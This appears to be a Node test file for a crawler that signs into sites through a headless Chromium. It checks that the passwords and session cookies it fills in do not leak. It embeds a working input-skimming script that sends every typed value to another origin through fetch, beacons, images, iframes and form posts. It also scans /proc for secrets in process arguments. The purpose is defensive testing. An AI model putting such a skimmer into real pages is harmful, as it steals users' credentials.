import assert from 'node:assert/strict'
import { readdirSync, readFileSync } from 'node:fs'
import type { IncomingMessage } from 'node:http'
import { test } from 'node:test'
import { serveHttp } from '#fetch/test-server.ts'
import { createAccessTester } from '#runtime/access-tester.ts'
import { readSettings } from '#settings/config.ts'
import { targetPolicy } from '#settings/fetch-limits.ts'
import { credentialsSchema, type TypedCredentials } from '#shared/credentials.ts'
import { openTestProduct, startTestCrawl, waitForEnd } from '../support/product.ts'
import { testSandbox } from '../support/settings.ts'

/** A login form that only its scripts draw and send, with a real Chromium, beside scripts that try to read what is filled in. */

const flags = { 'credentials-key': 'a key of the tests, which is long enough', 'render-timeout-ms': '5000' }
const PASSWORD = 'secret-password-4711'
const SESSION = 'secret-session-4711'

async function textOf(request: IncomingMessage): Promise<string> {
  let text = ''
  for await (const part of request) text += part
  return text
}

/** Two steps without a form; the second one replaces the first. `thief` sends every value elsewhere, in every way. */
const loginPage = (other: string) => `<!doctype html><title>Log in</title><div id="app"></div>
  <script src="${other}/library.js"></script>
  <script>
    const app = document.getElementById('app')
    let name
    app.innerHTML = '<input name="user"><button>Next</button>'
    app.querySelector('button').onclick = () => {
      name = app.querySelector('input').value
      app.innerHTML = '<input type="password" name="word"><button>Log in</button><p></p>'
      app.querySelector('button').onclick = async () => {
        const word = app.querySelector('input').value
        const response = await fetch('/api/login', { method: 'POST', body: JSON.stringify({ name, word }) })
        if (response.ok) app.innerHTML = '<h1 class="account">Account</h1>'
        else app.querySelector('p').textContent = 'Wrong password'
      }
    }
  </script>`

const thief = (other: string) => `document.addEventListener('input', ({ target: { value } }) => {
    const url = '${other}/stolen?' + encodeURIComponent(value)
    fetch(url, { mode: 'no-cors' }).catch(() => {})
    fetch(url, { mode: 'no-cors', method: 'POST', body: value, keepalive: true }).catch(() => {})
    navigator.sendBeacon(url, value)
    new Image().src = url
    document.body.insertAdjacentHTML('beforeend', '<iframe src="' + url + '"></iframe><link rel="stylesheet" href="' + url + '"><link rel="prefetch" href="' + url + '">')
    const form = document.body.appendChild(document.createElement('form'))
    form.action = url
    form.target = '_blank'
    form.method = 'post'
    form.submit()
  })`

interface Site extends AsyncDisposable {
  origin: string
  leaks: string[]
  otherRequests: string[]
  /** How many processes were looked at while the browser signed in, and those that had a secret among their arguments or variables. */
  processes: { seen: number; leaking: string[] }
}

/** As `ps` lists them, on Linux. */
function lookAtProcesses(processes: Site['processes']): void {
  if (process.platform !== 'linux') return
  for (const id of readdirSync('/proc').filter(name => /^\d+$/.test(name)))
    for (const list of ['cmdline', 'environ']) {
      const text = textOfProcess(id, list)
      if (text !== '') processes.seen += 1
      if (text.includes(PASSWORD) || text.includes(SESSION)) processes.leaking.push(text)
    }
}

/** '' for a process that has ended, and for one of another user. */
function textOfProcess(id: string, list: string): string {
  try {
    return readFileSync(`/proc/${id}/${list}`, 'utf8')
  } catch {
    return ''
  }
}

async function startSite(): Promise<Site> {
  const leaks: string[] = []
  const otherRequests: string[] = []
  const processes = { seen: 0, leaking: [] }
  // Another host, as every port of the listed one is refused anyway.
  const nameOf = (port: number) => `http://localhost:${port}`
  const other = await serveHttp((request, response) => {
    void textOf(request).then(body => {
      otherRequests.push(`${request.method} ${request.url}`)
      const sent = decodeURIComponent(JSON.stringify([request.rawHeaders, request.url, body]))
      if (/ann|secret/.test(sent)) leaks.push(sent)
      response
        .setHeader('content-type', 'text/javascript')
        .end(request.url === '/library.js' ? thief(nameOf(other.port)) : '')
    })
  })
  const own = await serveHttp((request, response) => {
    void textOf(request).then(body => {
      const isSignedIn = request.headers.cookie?.includes(`sid=${SESSION}`) === true
      response.setHeader('content-type', 'text/html')
      if (request.url === '/api/login') {
        lookAtProcesses(processes)
        const isRight = body === JSON.stringify({ name: 'ann', word: PASSWORD })
        if (isRight) response.setHeader('set-cookie', `sid=${SESSION}; Path=/; HttpOnly`)
        response.writeHead(isRight ? 200 : 403).end('{}')
      } else if (request.url === '/login') response.end(loginPage(nameOf(other.port)))
      else if (!isSignedIn) response.writeHead(302, { location: '/login' }).end()
      else
        response.end(
          `<title>Members</title><a href="/page">Page</a><iframe src="${nameOf(other.port)}/frame"></iframe>`,
        )
    })
  })
  return {
    origin: own.origin,
    leaks,
    otherRequests,
    processes,
    async [Symbol.asyncDispose]() {
      await own[Symbol.asyncDispose]()
      await other[Symbol.asyncDispose]()
    },
  }
}

function credentialsOf(site: Site, word: string) {
  const given: TypedCredentials = {
    origins: [site.origin],
    signIn: {
      url: `${site.origin}/login`,
      steps: [
        { fields: [{ field: 'username', value: 'ann' }] },
        { fields: [{ field: 'current-password', value: word }] },
      ],
      proof: { kind: 'selector', value: 'h1.account' },
    },
  }
  return credentialsSchema.parse(given)
}

test('a crawl signs in by scripts in a browser, and no other origin gets what is filled in', async () => {
  await using site = await startSite()
  await using opened = await openTestProduct({ flags })
  const request = { url: `${site.origin}/`, credentials: credentialsOf(site, PASSWORD) }
  const crawl = await waitForEnd(opened.product, await startTestCrawl(opened.product, request))
  const pages = await opened.product.store.reading.pages(crawl.id, { limit: 10 })
  assert.deepEqual([crawl.endReason, pages.map(({ statusCode }) => statusCode)], ['finished', [200, 200]])
  assert.deepEqual([site.leaks, site.processes.leaking], [[], []])
  assert.ok(process.platform !== 'linux' || site.processes.seen > 2, 'the processes of the browser, and this one')
  assert.ok(site.otherRequests.includes('GET /library.js'), 'the other origin gave its script')
})

test('a wrong password is reported with what the page lacks', async () => {
  await using site = await startSite()
  await using opened = await openTestProduct({ flags })
  const request = { url: `${site.origin}/`, credentials: credentialsOf(site, 'secret-wrong') }
  const crawl = await waitForEnd(opened.product, await startTestCrawl(opened.product, request))
  assert.equal(crawl.endReason, 'access-lost')
  assert.ok(
    crawl.endSentence.includes(`the sign-in failed, as ${site.origin}/login, which came then, has a login form again.`),
    crawl.endSentence,
  )
  assert.deepEqual(site.leaks, [])
})

test('a proxy that the server offers no more fails the sign-in, and no browser', async () => {
  await using site = await startSite()
  const settings = readSettings({ SITESOUNDER_CHROMIUM_SANDBOX: testSandbox })
  const events: string[] = []
  await using tester = createAccessTester({
    settings,
    policy: targetPolicy(settings),
    log: event => void events.push(event),
  })
  const request = { url: `${site.origin}/`, credentials: credentialsOf(site, PASSWORD) }
  const { signal } = new AbortController()
  const removed = await tester.testAccess({ ...request, route: { proxy: 'removed', hostMap: [] } }, signal)
  assert.equal(removed.message, 'The sign-in failed, as the proxy of the crawl cannot be used.')
  assert.equal((await tester.testAccess(request, signal)).isAccepted, true)
  assert.deepEqual(events, [])
})
